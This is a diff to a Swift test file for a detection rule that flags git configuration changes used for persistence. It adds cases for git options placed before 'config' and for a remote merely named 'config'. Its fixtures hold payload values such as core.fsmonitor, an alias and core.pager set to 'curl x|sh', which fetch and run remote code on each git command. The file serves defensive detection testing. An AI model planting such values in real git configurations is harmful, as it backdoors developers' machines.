@@ -294,6 +294,9 @@ final class PersistRuleTests: XCTestCase {
         check("persist.git_config", fire: [
             Row("core.fsmonitor in the user's config: runs at every git status", gitConfig(["--global", "core.fsmonitor", "curl x|sh"], "/home/dev/.gitconfig")),
             Row("a shell alias", gitConfig(["--global", "alias.st", "!sh -c 'curl x|sh'"], "/home/dev/.gitconfig")),
+            Row("git's own options first", [
+                E.exec("/usr/bin/git", ["git", "-C", "/home/dev", "-c", "x.y=z", "config", "--global", "core.fsmonitor", "x"], pid: 304, owner: 0, mode: 0o100755),
+                E.rename("/home/dev/.gitconfig.lock", "/home/dev/.gitconfig", pid: 304)]),
             Row("include.path pulls in more", gitConfig(["--global", "include.path", "/tmp/x.inc"], "/home/dev/.gitconfig")),
             Row("a pager that is a shell command", gitConfig(["--global", "core.pager", "sh -c 'curl x|sh; less'"], "/home/dev/.gitconfig")),
             Row("git config set (2.46 syntax), system-wide", gitConfig(["set", "--system", "core.sshCommand", "ssh -o ProxyCommand=x"], "/etc/gitconfig")),
@@ -310,6 +313,9 @@ final class PersistRuleTests: XCTestCase {
             Row("a workspace repository's config edited by hand", [E.open("/home/dev/proj/.git/config", "wa")]),
             Row("reading the user's config", [E.open("/home/dev/.gitconfig")]),
             Row("core.hooksPath is persist.git_hooks'", gitConfig(["--global", "core.hooksPath", "/tmp/h"], "/home/dev/.gitconfig")),
+            Row("a remote named config (not the config subcommand)", [
+                E.exec("/usr/bin/git", ["git", "remote", "add", "config", "core.fsmonitor"], pid: 303, owner: 0, mode: 0o100755),
+                E.rename("/home/dev/proj/.git/config.lock", "/home/dev/proj/.git/config", pid: 303)]),
         ])
         // the workspace's own repository: reported low (the person's next git there runs it)
         let s = Row("fsmonitor in the workspace repo", gitConfig(["core.fsmonitor", "curl x|sh"], "/home/dev/proj/.git/config")).run()
